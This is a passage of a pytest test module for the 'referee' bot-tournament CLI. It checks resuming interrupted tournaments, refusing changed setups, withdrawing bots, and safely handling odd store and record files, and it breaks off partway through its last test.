"""`referee tournament`, `standings`, `export` and `verify --store`: the contract with scripts.

The commands run in this process, and most tests make up the matches (tests/support/made_up.py).
Only the tests at the end play real ones.
"""

from __future__ import annotations

import csv
import html
import json
import math
import os
import re
import resource
import shlex
import signal
import sqlite3
import stat
import subprocess
import sys
from collections.abc import Callable
from contextlib import closing
from functools import partial
from itertools import count
from pathlib import Path
from random import Random
from types import SimpleNamespace
from typing import Any

import pytest
from msgspec.structs import replace

from referee import cli
from referee.bots.processes import cgroups
from referee.bots.processes.cgroups import Home, home
from referee.capacity import cores
from referee.cli.commands.standings import chosen_view
from referee.cli.commands.tournament import _Run
from referee.cli.commands.tournament_ending import GRACE_SECONDS, Ending, save_unfinished
from referee.cli.commands.tournament_options import TournamentOptions
from referee.cli.commands.tournament_plan import _packed
from referee.cli.commands.tournament_progress import table_every
from referee.cli.progress import LINE_SECONDS, working
from referee.cli.values import GivenSeed
from referee.errors import ShortageError, UsageError
from referee.interrupts import Interrupted, Interrupts
from referee.logs.outputs import REPORT
from referee.logs.zstd import zstd
from referee.tournament.report.standings import standings
from referee.tournament.rows import FORFEIT, WORKER_KILLED, Entrant, MatchRow, Plan, unplayed_row
from referee.tournament.schedule.format import Knockout
from referee.tournament.schedule.withdrawals import BY_HAND, Withdrawal
from referee.tournament.stages import first_missing
from referee.tournament.store import Store
from tests.support.forked_referee import ForkedReferee, forked_referee
from tests.support.live import ROOT, end_left_behind, one_line, referee, referee_process
from tests.support.made_up import (
    MadeUp,
    Result,
    contents,
    left,
    made_setup,
    play,
    row,
    void,
    workers,
)
from tests.support.sandboxed import needs_bwrap

BOTS = ["minimal", "big_money", "new=smithy_big_money"]
COLUMNS = [
    *("match", "deal", "seed", "players", "ranks", "scores", "turns", "reason", "faults"),
    *("disqualified", "detail", "seconds", "digest", "cause"),
]


_stores: dict[tuple[str, ...], bytes] = {}


class Commands:
    """Runs commands in this process, with made-up matches instead of real ones.

    Attributes:
        result: Makes the row of a match from its plan.
        most: Maximum number of matches in a batch.
        played: Numbers of the matches that the last command played.
        out, err: Output of the last command.
    """

    def __init__(self, capsys: pytest.CaptureFixture[str], folder: Path) -> None:
        self.result: Result = row
        self.most = 1_000
        self.played: list[int] = []
        self.out = self.err = ""
        self.store = str(folder / "night.sqlite")
        self._capsys = capsys

    def workers(self, jobs: int, *, pin: bool = False, places: Any = ()) -> Any:
        """Replaces `worker_processes`."""
        executor = MadeUp(self.result, self.most)
        self.played = executor.played
        return workers(executor)

    def run(self, *words: str, code: int = 0) -> str:
        """Run a command, check its exit code and return its stdout."""
        self.played = []
        self._capsys.readouterr()
        assert cli.main(words) == code, self._capsys.readouterr()
        self.out, self.err = self._capsys.readouterr()
        return self.out

    def said(self) -> tuple[str, str]:
        return self._capsys.readouterr()

    def tournament(self, *words: str, code: int = 0) -> str:
        """Run a quiet tournament with the store."""
        return self.run("tournament", *words, "--store", self.store, "--quiet", code=code)

    def stored(self, *words: str) -> None:
        """Make the store of a tournament, or copy the one that another test has made."""
        file = Path(self.store)
        if words in _stores:
            file.write_bytes(_stores[words])
        else:
            self.tournament(*words, "--format", "json")
            _stores[words] = file.read_bytes()
        self.played = []

    def refused(self, *words: str) -> str:
        """Run a tournament that must fail with exit code 2. Return its one-line error message."""
        assert self.tournament(*words, code=2) == ""
        assert self.played == []
        return one_line(self.err)

    def rows(self) -> dict[str, list[dict[str, Any]]]:
        with Store.for_reading(self.store) as store:
            return contents(store)


@pytest.fixture
def commands(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> Commands:
    made = Commands(capsys, tmp_path)
    monkeypatch.setattr("referee.workers.worker_processes", made.workers)
    monkeypatch.chdir(tmp_path)
    return made


def interrupting(after: int, number: int = signal.SIGINT) -> Callable[[Plan], MatchRow]:
    """Make a result function that raises a signal in the middle of match `after`."""

    def result(plan: Plan) -> MatchRow:
        if plan.match == after:
            signal.raise_signal(number)  # `os.kill` may deliver it to another thread, and later
        return row(plan)

    return result


def test_names_that_people_may_take_for_each_other_are_named_at_the_start(
    commands: Commands,
) -> None:
    bots = ("bot1=big_money", "bot-1=minimal", "bot2=minimal")
    said = "bot-1 and bot1 look alike, but are two bots"
    table = commands.run("tournament", *bots, "--deals", "1", "--store", commands.store)
    assert commands.err.splitlines()[0] == f"referee: {said}"
    assert f"{said}." in table
    page = commands.run("standings", commands.store, "--format", "html")
    assert f"<strong>{said}.</strong>" in page
    commands.tournament(*bots, "--deals", "2", "--extend")
    assert commands.err == ""


# --- going on -------------------------------------------------------------------------------------


def test_the_same_command_goes_on_where_it_was(commands: Commands) -> None:
    # without --seed, the store has to remember the seed that was chosen at random
    words = [*BOTS, "--deals", "2", "--format", "json"]
    commands.most = 1
    commands.result = interrupting(5)
    commands.tournament(*words, code=130)
    before = commands.rows()["matches"]
    assert 0 < len(before) < 12
    commands.result = row
    commands.tournament(*words)
    assert len(commands.played) < 12
    assert [match["match"] for match in commands.rows()["matches"]] == [*range(12)]
    assert all(match in commands.rows()["matches"] for match in before)
    commands.tournament(*words)
    assert commands.played == []


@pytest.mark.parametrize("options", [["--deals", "2"], ["--pairing", "sprt", "--elo1", "300"]])
def test_a_bot_that_is_gone_is_missed_only_where_something_is_to_be_played(
    commands: Commands, tmp_path: Path, options: list[str]
) -> None:
    bot = tmp_path / "bot.py"
    bot.write_text("")
    words = ["minimal", "./bot.py", *options]
    commands.result = lambda plan: row(plan, [1, 2] if plan.players[0] == 0 else [2, 1])
    commands.tournament(*words)
    bot.unlink()
    assert "minimal" in commands.tournament(*words)
    assert commands.played == []
    assert "./bot.py not found" in commands.refused(*words, "--extend", "--deals", "90000")


@pytest.mark.parametrize("extension", [[], ["--extend", "--deals", "12"]])
def test_a_store_with_other_line_ups_can_be_read_but_not_continued(
    commands: Commands, extension: list[str]
) -> None:
    words = [*BOTS, "--players", "3", "--deals", "9"]
    commands.most = 1
    commands.result = interrupting(9)
    commands.tournament(*words, code=130)
    with closing(sqlite3.connect(commands.store)) as database, database:
        # Put the next bot into each seat: the deal has the same bots, but in another order.
        database.execute("UPDATE seats SET bot = (bot + 1) % 3 WHERE match < 3")
    before = commands.rows()
    assert "match 0 differs from the schedule" in commands.refused(*words, *extension)
    assert commands.rows() == before
    with Store.for_reading(commands.store) as store:
        assert len(store.stages) == 1
    for command in ("standings", "export"):
        assert "big_money" in commands.run(command, commands.store)


@pytest.mark.parametrize(("number", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_an_interrupted_run_says_how_to_go_on(commands: Commands, number: int, code: int) -> None:
    commands.result = interrupting(5, number)
    commands.most = 1
    bots = [f"x={sys.executable} -c 'pass'", *BOTS]
    words = ["tournament", *bots, "--deals", "4", "--store", commands.store, "-q"]
    shown = commands.run(*words, code=code)
    told, how = commands.err.splitlines()
    if number == signal.SIGINT:
        assert "running matches have 10 s to end; Ctrl-C again drops them" in told
        assert "of 48 matches in" in shown
    else:
        assert "matches that were being played were dropped" in told
        assert shown == ""
    assert how.startswith("referee: continue with: referee tournament ")
    again = shlex.split(how.partition("continue with: referee ")[2])
    assert again == words
    assert Path(commands.store).parent.joinpath("night.sqlite-wal").exists() is False


def test_a_signal_while_the_bots_are_started(
    commands: Commands, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken_bots(dispatcher: Any, setup: Any, bots: Any, look: Callable[[int], object]) -> Any:
        signal.raise_signal(signal.SIGINT)  # `os.kill` may deliver it to another thread, and later
        look(0)

    monkeypatch.setattr("referee.tournament.playing.starting.broken_bots", broken_bots)
    assert commands.run("tournament", *BOTS, "--quiet", code=130) == ""
    assert commands.err == "referee: interrupted; nothing was played\n"
    assert commands.played == []


def test_bots_that_are_started_again_in_the_check_are_named(
    commands: Commands, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken_bots(dispatcher: Any, setup: Any, bots: Any, look: object) -> dict[int, UsageError]:
        dispatcher.on_not_ready([*bots])
        return {}

    monkeypatch.setattr("referee.tournament.playing.starting.broken_bots", broken_bots)
    commands.run("tournament", *BOTS, "--quiet", "--deals", "1")
    assert "not ready in time: minimal, big_money, new; started again now" in commands.err


@pytest.mark.parametrize(("records", "keep"), [(None, "none"), ("records", "faulty")])
def test_no_bot_sees_a_file_that_may_have_a_seed_and_records_need_a_folder(
    records: str | None, keep: str
) -> None:
    files = {"store": "s", "config": "c", "position": "p", "deal_seeds": SimpleNamespace(file="d")}
    more = {"seed": GivenSeed(None, "f"), "keep_records": "faulty"}
    run: Any = SimpleNamespace(
        _options=SimpleNamespace(**files, **more, record_stderr=False),
        _records=records,
        _workers=lambda: (None, None),
        _live=None,
    )
    dispatcher = _Run._dispatcher(run)
    unseen = [*filter(None, [records]), "s", "c", "p", "f", "d"]
    assert dispatcher._hidden == tuple(map(os.path.abspath, unseen))
    assert dispatcher._wanted["keep"] == keep


@pytest.mark.parametrize(
    ("records", "cluster", "live"),
    [(None, None, None), ("r", None, Path("r")), ("r", "tcp://host:1", None)],
)
def test_a_tournament_with_records_can_be_watched_without_browser(
    records: str | None, cluster: str | None, live: Path | None
) -> None:
    options = SimpleNamespace(browser=False, cluster=cluster)
    assert _Run._live.fget(SimpleNamespace(_records=records, _options=options)) == live  # type: ignore[attr-defined]


def test_a_run_without_a_match_has_nothing_to_go_on_with(
    capsys: pytest.CaptureFixture[str],
) -> None:
    with Store.in_memory() as store:
        save_unfinished(store, None, ["tournament", *BOTS])
    assert capsys.readouterr() == ("", "")


@pytest.mark.parametrize(
    ("number", "is_writable"),
    [(signal.SIGINT, True), (signal.SIGINT, False), (signal.SIGTERM, True), (signal.SIGHUP, False)],
)
def test_the_matches_of_an_interrupted_run_without_a_store_are_kept(
    commands: Commands,
    number: int,
    is_writable: bool,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    """A file of the same name is kept. If the folder is read-only, the store goes elsewhere."""
    (tmp_path / "tmp").mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "tmp"))
    Path("referee-7.sqlite").write_text("mine")
    if not is_writable:  # even root can't write there
        monkeypatch.chdir("/proc" if Path("/proc").is_dir() else "/")
    commands.result = interrupting(5, number)
    commands.most = 1
    words = ["tournament", "minimal", "big_money", "--deals", "9", "--seed", "7", "-q"]
    commands.run(*words, code=128 + number)
    file = "referee-7-2.sqlite" if is_writable else str(tmp_path / "tmp" / "referee-7.sqlite")
    where, how = commands.err.splitlines()[-2:]
    assert where == f"referee: the finished matches are in {file}"
    again = shlex.split(how.removeprefix("referee: continue with: referee "))
    assert again == [*words, "--store", file]
    with Store.for_reading(file) as kept:
        finished = {*kept.played()}
    commands.result = row
    assert "18 of 18 matches" in commands.run(*again)
    assert finished
    assert sorted(commands.played) == sorted({*range(18)} - finished)
    whole = str(tmp_path / "whole.sqlite")
    commands.run(*words, "--store", whole)
    with Store.for_reading(file) as kept, Store.for_reading(whole) as never_ended:
        assert contents(kept) == contents(never_ended)
    assert (tmp_path / "referee-7.sqlite").read_text() == "mine"


def test_what_an_error_ends_is_kept_as_well(commands: Commands) -> None:
    def result(plan: Plan) -> MatchRow:
        if plan.match == 9:
            raise ShortageError("no processes are left")
        return row(plan)

    commands.result = result
    commands.most = 1
    commands.run("tournament", "minimal", "big_money", "--seed", "7", "-q", code=71)
    assert "the finished matches are in referee-7.sqlite" in commands.err
    assert Path("referee-7.sqlite").exists()


def test_matches_that_do_not_end_in_time_are_dropped(capsys: pytest.CaptureFixture[str]) -> None:
    now, stopped = 100.0, []
    with Interrupts() as interrupts:
        ending = Ending(interrupts, lambda: stopped.append(now), clock=lambda: now)
        ending.check_signals()
        assert not ending.is_interrupted
        signal.raise_signal(signal.SIGINT)
        ending.check_signals()
        now += GRACE_SECONDS - 1
        ending.check_signals()
        assert ending.is_interrupted
        assert stopped == [100.0]
        now += 2
        with pytest.raises(TimeoutError):
            ending.check_signals()
    assert "Ctrl-C again drops them" in one_line(capsys.readouterr().err)


def test_bots_that_start_slowly_are_counted_where_there_is_no_terminal(
    capsys: pytest.CaptureFixture[str],
) -> None:
    ticks = count()
    with Interrupts() as interrupts:
        for quiet in (True, False):
            clock = partial(lambda ticks: next(ticks) * (LINE_SECONDS / 20 + 0.01), ticks)
            with working(
                40, "bots started", quiet=quiet, interrupts=interrupts, clock=clock
            ) as look:
                for started in range(41):
                    look(started)
    said = capsys.readouterr().err.splitlines()
    assert 1 <= len(said) <= 3
    assert all(re.fullmatch(r"referee: \d+ of 40 bots started", line) for line in said)


@pytest.mark.parametrize("second", [signal.SIGINT, signal.SIGTERM])
def test_a_second_signal_drops_running_matches(second: int) -> None:
    with Interrupts() as interrupts:
        ending = Ending(interrupts, lambda: None)
        signal.raise_signal(signal.SIGINT)
        ending.check_signals()
        signal.raise_signal(second)
        with pytest.raises(Interrupted):
            ending.check_signals()


@pytest.mark.parametrize(
    ("changed", "says"),
    [
        (["--deals", "3"], "deals: 2 in the store, 3 now"),
        (["--seed", "6"], "seed: 5 in the store, 6 now"),
        (["--seats", "all"], "seats: rotate in the store, all now"),
        (["--players", "3"], "players: 2 in the store, 3 now"),
        (["--pairing", "gauntlet"], "pairing: round-robin in the store, gauntlet now"),
        (["--time-limit", "3"], "time_limit: 10.0 in the store, 3.0 now"),
        (["--set", "max_turns=30"], "max_turns: 500 in the store, 30 now"),
        (["--no-keep-alive"], "keep_alive: True in the store, False now"),
        (["minimal"], "bots: 3 in the store, 4 now"),
    ],
)
def test_another_setup_is_refused_with_what_differs(
    commands: Commands, changed: list[str], says: str
) -> None:
    commands.stored(*BOTS, "--deals", "2", "--seed", "5")
    before = commands.rows()
    bots = [word for word in changed if not word.startswith("-")] if len(changed) == 1 else []
    rest = changed if not bots else []
    line = commands.refused(*BOTS, *bots, "--deals", "2", "--seed", "5", *rest)
    assert says in line
    assert commands.store in line
    assert commands.rows() == before


def test_what_does_not_decide_the_matches_may_differ(commands: Commands, tmp_path: Path) -> None:
    commands.most = 1
    commands.result = interrupting(3)
    commands.tournament(*BOTS, "--deals", "2", "--seed", "5", code=130)
    commands.result = row
    others = [
        "--jobs",
        "1",
        "--records",
        str(tmp_path / "r"),
        "--format",
        "json",
        "--anchor",
        "minimal=0",
    ]
    commands.tournament(*BOTS, "--deals", "2", "--seed", "5", *others)
    assert len(commands.rows()["matches"]) == 12


def test_a_store_keeps_the_sandbox_and_the_limits_of_its_matches(
    commands: Commands, monkeypatch: pytest.MonkeyPatch
) -> None:
    problem = ""
    monkeypatch.setattr("referee.bots.processes.sandbox.unavailable_reason", lambda: problem)
    first = ["--deals", "1", "--seed", "5", "--sandbox"]
    text = commands.tournament(*BOTS, *first, "auto", "--opening", "2")
    assert "sandbox bwrap" in " ".join(text.split())
    assert "bots are in no sandbox" not in commands.err
    assert json.loads(commands.run("standings", commands.store, "--format", "json"))["sandbox"]
    with Store.for_reading(commands.store) as store:
        assert (store.stages[0].sandbox, store.stages[0].opening) == ("bwrap", 2)
        limits = store.stages[0].settings
    assert (limits["time_bank"], limits["memory_limit"]) == (300.0, 2**30)
    problem = "there is none"
    assert "--sandbox bwrap: there is none" in commands.refused(*BOTS, *first, "auto")
    assert "sandbox: bwrap in the store, none now" in commands.refused(*BOTS, *first, "none")
    with sqlite3.connect(commands.store) as connection:  # older versions didn't store these
        (stages,) = connection.execute("SELECT value FROM about WHERE key = 'stages'").fetchone()
        for name in ("time_bank", "memory_limit", "sandbox"):
            stages = re.sub(rf'"{name}":("bwrap"|[^,}}]*),', "", stages)
        connection.execute("UPDATE about SET value = ? WHERE key = 'stages'", (stages,))
    connection.close()
    commands.tournament(*BOTS, *first, "auto")
    assert commands.played == []


@pytest.mark.slow
def test_extend_allows_more_bots_and_more_deals(commands: Commands) -> None:
    commands.stored(*BOTS, "--deals", "2", "--seed", "5")
    before = commands.rows()["matches"]
    assert "--extend allows more" in commands.refused(*BOTS, "minimal", "--deals", "3")
    commands.tournament(*BOTS, "minimal", "--deals", "3", "--seed", "5", "--extend")
    assert len(commands.rows()["matches"]) == 6 * 3 * 2
    assert commands.rows()["matches"][:12] == before
    # The same command continues the store with or without --extend. Shrinking it is refused.
    for words in (["--extend"], []):
        same = [*BOTS, "minimal", "--deals", "3", "--seed", "5", "--format", "json"]
        commands.tournament(*same, *words)
        assert commands.played == []
    said = commands.refused(*BOTS, "--deals", "2", "--seed", "5")
    assert "has the matches of minimal #2, too: name every bot" in said
    assert "only adds" in commands.refused(*BOTS, "minimal", "--deals", "1", "--extend")
    assert "cannot change this" in commands.refused(
        *BOTS, "minimal", "--deals", "3", "--seed", "6", "--extend"
    )


@pytest.mark.parametrize(
    ("words", "file", "name"),  # command line, changed file, name in the message
    [
        (["./m1.py", "m2=./m2.py", "big_money"], "m1.py", "./m1.py"),
        (["py=python3 -I m1.py", "./m2.py"], "m1.py", "py"),
        (["./anna", "big_money"], "anna/plan.txt", "Anna"),
        (["--config", "t.toml"], "m1.py", "m1"),
    ],
)
def test_a_changed_bot_is_refused_or_named_in_the_standings(
    words: list[str], file: str, name: str, commands: Commands, tmp_path: Path
) -> None:
    folder = tmp_path / "anna"
    folder.mkdir()
    (folder / "bot.toml").write_text('name = "Anna"\ncommand = "python3 main.py"\n')
    for each in ("anna/main.py", "anna/plan.txt", "m1.py", "m2.py"):
        (tmp_path / each).write_text("1")
    (tmp_path / "t.toml").write_text(
        '[[bot]]\ncommand = "python3 m1.py"\nname = "m1"\n[[bot]]\ncommand = "big_money"\n'
    )
    few = [*words, "--deals", "1", "--seed", "5", "--sandbox", "none", "--format", "json"]
    commands.tournament(*few)
    before = commands.rows()
    (tmp_path / file).write_text("new")
    for more in ([], ["--extend", "--deals", "2"]):  # a complete store, and one to extend
        line = commands.refused(*few, *more)
        assert f": {name} has changed since the matches in {commands.store} were" in line
        assert "--same-bot" in line
    assert commands.rows() == before
    extended = json.loads(commands.tournament(*few, "--deals", "2", "--extend", "--same-bot"))
    assert extended["changed"] == [name]


@pytest.mark.slow
def test_the_store_remembers_that_a_changed_bot_is_the_same(
    commands: Commands, tmp_path: Path
) -> None:
    few = ["./m1.py", "big_money", "--seed", "5", "--sandbox", "none", "--deals"]
    for text in ("1", "2"):
        (tmp_path / "m1.py").write_text(text)
        commands.tournament(*few, text, "--same-bot", "--extend", "--format", "json")
    line = "./m1.py changed between two runs"
    assert line in commands.tournament(*few, "2")
    assert line in commands.run("standings", commands.store, "--format", "html")


@pytest.mark.slow
def test_bots_of_an_older_store_and_bots_that_have_not_played_may_change(
    commands: Commands, tmp_path: Path
) -> None:
    words = ["big_money", "minimal", "./m1.py", "--deals", "2", "--seed", "5", "--sandbox", "none"]
    bot = tmp_path / "m1.py"
    for number, edit in enumerate(
        (
            "DELETE FROM matches WHERE match IN (SELECT match FROM seats WHERE bot = 2);"
            "DELETE FROM seats WHERE match NOT IN (SELECT match FROM matches)",
            "DELETE FROM about WHERE key = 'versions'",  # older referees didn't write this
        )
    ):
        bot.write_text(f"{number}")
        assert "changed" not in commands.tournament(*words)
        with sqlite3.connect(commands.store) as connection:
            connection.executescript(edit)
        connection.close()
    bot.write_text("2")
    assert "changed" not in commands.tournament(*words)
    bot.write_text("3")  # the files' digests are in the store now
    assert "./m1.py has changed" in commands.refused(*words)


def test_a_wrong_command_leaves_no_store(commands: Commands) -> None:
    for words, says in (
        ([*BOTS, "--players", "5"], "has 2 to 4"),
        (["minimal"], "1 bot: with 2 players in a match, a tournament needs 2 to 2,000 bots"),
        ([], "0 bots"),
        (["minimal", "./none"], "./none"),
        ([*BOTS, "--anchor", "none=5"], "give BOT=RATING with one of minimal, big_money, new"),
        ([*BOTS, "--anchor", "new=high"], "'high' is not a number"),
        ([*BOTS, "--bot", "none"], "--bot none: there are: minimal, big_money, new"),
        (
            [*BOTS, "--deals", "2", "--matches", "9"],
            "argument --matches: not allowed with argument --deals",
        ),
        ([*BOTS[:2], "--pairing", "sprt", "--elo0", "9", "--elo1", "3"], "must be less than"),
        ([*BOTS, "--set", "colour=red"], "dominion has no option 'colour'"),
        ([*BOTS, "--deals", "0"], "argument --deals: '0' is not an integer of 1 or more"),
        ([*BOTS, "--config", "none.toml"], "cannot read none.toml: No such file"),
    ):
        assert says in commands.refused(*words)
        assert not Path(commands.store).exists()


def a_device(path: Path) -> None:
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # e.g. /dev/null
    except PermissionError:
        pytest.skip("only root makes devices")


@pytest.mark.parametrize("bots", [BOTS, ["minimal"]])
@pytest.mark.parametrize(
    ("make", "says"),
    [
        (a_device, "it is not a regular file"),
        (os.mkfifo, "it is not a regular file"),
        (Path.mkdir, "it is not a regular file"),
        (Path.touch, "is not a store of a tournament"),
        (lambda path: path.write_text("dear diary\n" * 100), "is not a database"),
        (lambda path: path.symlink_to("nothing"), "No such file"),
        (lambda path: path.symlink_to("/dev/null"), "it is not a regular file"),
    ],
)
def test_what_is_no_store_is_left_alone(
    commands: Commands, tmp_path: Path, make: Callable[[Path], Any], says: str, bots: list[str]
) -> None:
    path = tmp_path / "thing"
    make(path)
    before = path.lstat()
    commands.store = "thing"
    assert says in commands.refused(*bots, "--deals", "1")
    after = path.lstat()
    assert (after.st_ino, after.st_size, after.st_mtime_ns) == (
        before.st_ino,
        before.st_size,
        before.st_mtime_ns,
    )
    assert [*tmp_path.iterdir()] == [path]


@pytest.mark.parametrize("name", ["", ":memory:", "file:x", "a\0b"])
def test_what_is_no_name_of_a_store(commands: Commands, tmp_path: Path, name: str) -> None:
    commands.store = name
    assert "is not the name of a file" in commands.refused(*BOTS, "--deals", "1")
    assert [*tmp_path.iterdir()] == []


def test_a_link_to_a_store_is_one(commands: Commands, tmp_path: Path) -> None:
    commands.stored(*BOTS, "--deals", "1", "--seed", "5")
    (tmp_path / "link").symlink_to(commands.store)
    commands.store = "link"
    commands.tournament(*BOTS, "--deals", "1", "--seed", "5")
    assert commands.played == []
    assert {path.name for path in tmp_path.iterdir()} == {"link", "night.sqlite"}


def test_a_link_in_the_folder_of_records_is_not_followed(
    commands: Commands, tmp_path: Path
) -> None:
    commands.result = lambda plan: row(plan, record=b"{}\n")
    diary = tmp_path / "diary"
    diary.write_text("dear diary")
    words = [*BOTS, "--deals", "1", "--seed", "5", "--records", "r"]
    commands.tournament(*words)
    os.unlink(commands.store)
    for name in ("000000.record.jsonl.zst.part", "000001.record.jsonl.zst"):
        (tmp_path / "r" / name).unlink(missing_ok=True)
        (tmp_path / "r" / name).symlink_to(diary)
    commands.tournament(*words)
    assert diary.read_text() == "dear diary"
    assert not any(path.is_symlink() for path in (tmp_path / "r").iterdir())
    assert len([*(tmp_path / "r").glob("*.zst")]) == 6


def test_a_folder_with_records_of_another_tournament(commands: Commands, tmp_path: Path) -> None:
    commands.result = lambda plan: row(plan, record=b"{}\n", stderr=[b"oh", b""])
    words = [*BOTS[:2], "--records", "r", "--seed", "5"]
    commands.tournament(*words, "--deals", "2")
    first, commands.store = commands.store, str(tmp_path / "moved.sqlite")
    os.rename(first, commands.store)
    commands.tournament(*words, BOTS[2], "--deals", "3", "--extend")
    assert len([*(tmp_path / "r").glob("*.zst")]) == len(commands.rows()["matches"])
    before = {path: path.stat() for path in (tmp_path / "r").iterdir()}

    commands.store = str(tmp_path / "week-2.sqlite")
    week2 = [*BOTS, "--records", "r", "--seed", "6", "--deals", "1"]
    assert commands.refused(*week2) == (
        "referee: the folder r has records of another tournament; choose another folder, or add "
        "--force, which removes them\n"
    )
    assert {path: path.stat() for path in (tmp_path / "r").iterdir()} == before
    assert not Path(commands.store).exists()
    Path("week-2.toml").write_text("force = true\n")
    assert "force" in commands.refused(*week2, "--config", "week-2.toml")

    commands.result = row  # this result writes no records and no stderr
    commands.tournament(*week2, "--force")
    assert [path.name for path in (tmp_path / "r").iterdir()] == [".referee-tournament"]


def test_a_full_disk_for_records_ends_it_with_one_line(commands: Commands, tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    line = commands.refused(*BOTS, "--records", str(tmp_path / "file" / "x"))
    assert "cannot write" in line


# --- options --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("words", "matches"),
    [
        (["--deals", "2"], 12),
        (["--matches", "13"], 14),
        (["--players", "3", "--matches", "4"], 6),
        (["--players", "3", "--matches", "7", "--seats", "all"], 12),
        (["x=minimal", "--players", "4", "--matches", "4"], 4),
        (["--pairing", "gauntlet", "--deals", "2"], 8),
        (["x=minimal", "--pairing", "swiss", "--rounds", "2", "--deals", "3"], 24),
        (["x=minimal", "--pairing", "knockout", "--deals", "3", "--third-place"], 24),
        (["--game", "botwars", "--deals", "1"], 6),
    ],
)
def test_how_much_is_played(commands: Commands, words: list[str], matches: int) -> None:
    bots = ["formation", "gatherer", "random_walker"] if "botwars" in words else BOTS
    commands.run("tournament", *bots, *words, "--format", "json")
    found = json.loads(commands.out)
    assert found["matches"] == found["planned"] == matches


def test_a_knockout_is_seeded_by_the_ratings_of_another_store(commands: Commands) -> None:
    commands.run("tournament", *BOTS, "--deals", "2", "--store", "week.sqlite")
    with Store.for_reading("week.sqlite") as store:
        best_first = [bot.name for bot in standings(store).bots]
    words = [*BOTS, "late=minimal", "--pairing", "knockout", "--deals", "1", "--format", "json"]
    commands.run("tournament", *words, "--seeding", "week.sqlite")
    first = json.loads(commands.out)["knockout"]["pairs"][0]
    assert first["bots"] == [best_first[0], "late"]
    assert "no rating of a bot with one of these names" in commands.refused(
        *("x=minimal", "y=minimal", "--pairing", "knockout", "--seeding", "week.sqlite")
    )
    assert "no such file" in commands.refused(
        *(*BOTS, "--pairing", "knockout", "--seeding", "none.sqlite")
    )


@pytest.mark.parametrize("third", [[], ["--third-place"]])
def test_a_knockout_continues_without_the_store_that_has_seeded_it(
    third: list[str], commands: Commands
) -> None:
    commands.run("tournament", *BOTS, "--deals", "2", "--store", "week.sqlite")
    words = [*BOTS, "late=minimal", "--pairing", "knockout", "--deals", "1", "--seed", "1", *third]
    commands.tournament(*words, "--seeding", "week.sqlite")
    with Store.for_reading(commands.store) as store:
        bracket = store.stages[-1].knockout
        assert isinstance(bracket, Knockout)
        seeding = ", ".join(store.names[bot] for bot in bracket.seeding)
    Path("week.sqlite").unlink()
    commands.tournament(*words, "--seeding", "week.sqlite")
    assert commands.played == []
    said = commands.refused(*words)
    assert f"seeding: {seeding} in the store, in the order of the bots now" in said


def test_a_bracket_that_is_stored_without_a_seeding_gets_none_later(commands: Commands) -> None:
    commands.run("tournament", *BOTS, "--deals", "2", "--store", "week.sqlite")
    words = [*BOTS, "late=minimal", "--pairing", "knockout", "--deals", "1", "--third-place"]
    commands.tournament(*words)
    said = commands.refused(*words, "--seeding", "week.sqlite")
    assert "seeding: " in said


def failing(plan: Plan) -> MatchRow:
    """Bot 1 fails in each match."""
    return row(plan, left=[left() if bot == 1 else None for bot in plan.players])


def test_a_withdrawal_is_taken_back(commands: Commands) -> None:
    words = [*BOTS, "--deals", "4", "--seed", "1", "--withdraw-after", "2"]
    commands.result = failing
    commands.tournament(*words, code=1)
    with Store.for_reading(commands.store) as store:
        ((bot, withdrawal),) = store.withdrawn.items()
        forfeits = [match.match for match in store.matches() if match.reason == FORFEIT]
        assert (bot, len(forfeits)) == (1, 14)
    commands.result = row
    commands.tournament(*words, "--reinstate", "big_money", code=0)
    assert sorted(commands.played) == forfeits
    with Store.for_reading(commands.store) as store:
        assert (store.withdrawn, store.reinstated) == ({}, {1: withdrawal.match})
        assert store.count() == (24, 0)
    # The same command may be given again, and the two matches that it lost stay lost.
    commands.tournament(*words, "--reinstate", "big_money", code=0)
    assert commands.played == []


def test_a_bot_that_fails_again_is_withdrawn_again(commands: Commands) -> None:
    words = [*BOTS, "--deals", "4", "--seed", "1", "--withdraw-after", "2"]
    commands.result = failing
    commands.tournament(*words, code=1)
    with Store.for_reading(commands.store) as store:
        before = store.withdrawn[1].match
    commands.tournament(*words, "--reinstate", "big_money", code=1)
    with Store.for_reading(commands.store) as store:
        assert store.withdrawn[1].match > before
        assert store.count()[0] == 24
        assert len([m for m in store.matches() if m.reason == FORFEIT]) == 12


def test_a_bot_is_withdrawn_by_hand(commands: Commands) -> None:
    words = [*BOTS, "--deals", "4", "--seed", "1"]
    commands.result, commands.most = interrupting(9), 1
    commands.tournament(*words, code=130)
    with Store.for_reading(commands.store) as store:
        before = [*store.played()]
        first = first_missing(store, 1)
    # The files of the bot may be gone, so it need not be named.
    without = [word for word in words if word != "big_money"]
    assert "--withdraw big_money" in commands.refused(*without)
    commands.result = row
    commands.tournament(*without, "--withdraw", "big_money", code=0)
    with Store.for_reading(commands.store) as store:
        assert store.withdrawn == {1: Withdrawal(first - 1, BY_HAND)}
        rows = [*store.matches()]
        assert store.count()[0] == 24
    for match in rows:
        is_forfeit = 1 in match.players and match.match >= first
        assert (match.reason == FORFEIT) == is_forfeit
    assert 9 <= len(before) < 24
    # The same command, and one without the option, continue with it.
    for more in (["--withdraw", "big_money"], []):
        commands.tournament(*without, *more, code=0)
        assert commands.played == []
    commands.tournament(*words, "--reinstate", "big_money", code=0)
    with Store.for_reading(commands.store) as store:
        assert not [match for match in store.matches() if match.reason == FORFEIT]
        assert store.withdrawn == {}


def test_a_match_of_two_ends_with_a_withdrawal_by_hand(commands: Commands) -> None:
    words = [*BOTS[:2], "--deals", "4", "--seed", "1"]
    commands.result, commands.most = interrupting(3), 1
    commands.tournament(*words, code=130)
    commands.result = row
    out = commands.tournament(*words, "--withdraw", BOTS[1], code=0)
    assert "is withdrawn by --withdraw, so the matches end" in " ".join(out.split())
    with Store.for_reading(commands.store) as store:
        first = store.withdrawn[1].match + 1
        assert [*store.played()] == [*range(first)]


def test_a_bot_is_withdrawn_before_an_extension(commands: Commands) -> None:
    words = [*BOTS, "--seed", "1"]
